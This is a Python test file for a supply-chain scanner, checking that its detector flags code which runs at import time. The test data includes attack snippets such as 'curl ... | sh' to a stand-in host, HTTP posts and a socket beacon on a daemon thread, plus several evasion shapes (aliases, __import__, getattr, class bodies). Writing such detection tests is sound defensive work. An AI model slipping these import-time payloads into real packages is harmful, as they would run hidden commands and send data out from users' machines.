"""Import-time rule: the byte-level pre-filter must still let every attack shape reach the AST
(aliases, from-imports, __import__/getattr, class bodies, nested blocks, print(...), local
functions called with arguments, thread targets), and the AST must resolve them. Each shape is
checked twice: the trigger alone (the pre-filter decision) and the whole analysis of a wheel
built in the test."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from blastradius.capabilities.analyse import analyse_artifact, scan_python
from blastradius.capabilities.rules import import_time, sinks

URL = "'https://collect.example/x'"
SHAPES = {
    "plain": "import os\nos.system('curl -s https://collect.example/x | sh')\n",
    "module-alias": "import subprocess as sp\nsp.run(['sh', '-c', 'id'])\n",
    "os-alias": "import os as _o\n_o.system('id')\n",
    "from-import-alias": "from os import system as s\ns('id')\n",
    "from-import-paren": "from subprocess import (\n    PIPE,\n    check_output as co,\n)\nco(['id'])\n",
    "from-requests": f"from requests import post\npost({URL}, data=b'x')\n",
    "urlopen-alias": f"from urllib.request import urlopen as fetch\nfetch({URL})\n",
    "dunder-import": "__import__('os').system('id')\n",
    "import-module": "import importlib\nimportlib.import_module('subprocess').call(['id'])\n",
    "getattr": "import os\ngetattr(os, 'system')('id')\n",
    "print-wrapped": "import os\nprint(os.popen('id').read())\n",
    "assign-call-with-args": f"import urllib.request\ndef _beacon(n):\n    return urllib.request.urlopen({URL})\n_r = _beacon(1)\n",
    "nested-in-try": f"import requests\ntry:\n    if True:\n        requests.get({URL})\nexcept Exception:\n    pass\n",
    "class-body": "import subprocess\nclass Config:\n    version = subprocess.check_output(['id'])\n",
    "thread-target": ("import threading, socket\ndef _go():\n    socket.create_connection(('collect.example', 443))\n"
                      "threading.Thread(target=_go, daemon=True).start()\n"),
    "local-class": f"import httpx\nclass _T:\n    def __init__(self):\n        httpx.post({URL})\n_t = _T()\n",
    "paren-callee": "import subprocess\n(subprocess).run(['id'])\n",
}
BENIGN = {
    "inside-function": f"import requests\ndef fetch():\n    return requests.get({URL})\n",
    "main-guard": "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['ls'])\n",
    "imported-class-at-top": "import httpx\nfrom .client import Client\nclient = Client()\ntimeout = httpx.Timeout(3)\n",
    "platform-system": "import platform, socket\nOS = platform.system()\n",
    "httpx-types": "from httpx import AsyncClient, Response\n_c = AsyncClient()\n",
}


def _trigger(src: str) -> bool:
    padded = b"\n" + src.encode()
    return import_time.could_run_sink_on_import(
        padded, sinks.network(padded) is not None or sinks.subprocess(padded) is not None)


def _wheel(tmp: Path, name: str, src: str) -> Path:
    path = tmp / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(f"{name}/__init__.py", src)
        zf.writestr(f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n\n")
    return path


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_attack_shape_passes_trigger_and_is_found(tmp_path, shape):
    src = SHAPES[shape]
    assert _trigger(src), f"pre-filter drops the {shape} shape"
    result = scan_python("pkg/__init__.py", src.encode())
    assert result.parsed
    assert any(h[0] == "BR-IMPORT-TIME" for h in result.hits), (shape, result.hits)
    analysis = analyse_artifact(_wheel(tmp_path, "shape_" + shape.replace("-", "_"), src), use_cache=False)
    assert "import-time-code" in analysis.capabilities
    assert any(e.rule_id == "BR-IMPORT-TIME" for e in analysis.evidence)


@pytest.mark.parametrize("shape", sorted(BENIGN))
def test_benign_shape_is_not_import_time(shape):
    result = scan_python("pkg/mod.py", BENIGN[shape].encode())
    assert not any(h[0] == "BR-IMPORT-TIME" for h in result.hits), (shape, result.hits)


@pytest.mark.parametrize("shape", ["imported-class-at-top", "platform-system", "httpx-types"])
def test_trigger_skips_files_without_a_resolvable_sink_call(shape):
    """The tightening: module-level calls to imported classes next to a network import are no
    longer parsed for this rule (they cannot reach a sink the AST can resolve)."""
    assert not _trigger(BENIGN[shape])
    assert not scan_python("pkg/mod.py", BENIGN[shape].encode()).parsed


def test_aliases_resolve_in_sink_label():
    import ast

    tree = ast.parse("import subprocess as sp\nfrom os import system as s\nimport os\n"
                     "sp.run(1)\ns(2)\n__import__('os').popen(3)\ngetattr(os, 'system')(4)\nos.path.join(5)\n")
    names = import_time.aliases(tree)
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.args[0] if n.args else None, ast.Constant)
             and isinstance(n.args[0].value, int)]
    labels = {c.args[0].value: import_time.sink_label(c, names) for c in calls}
    assert labels == {1: "subprocess.run", 2: "os.system", 3: "os.popen", 4: "os.system", 5: None}
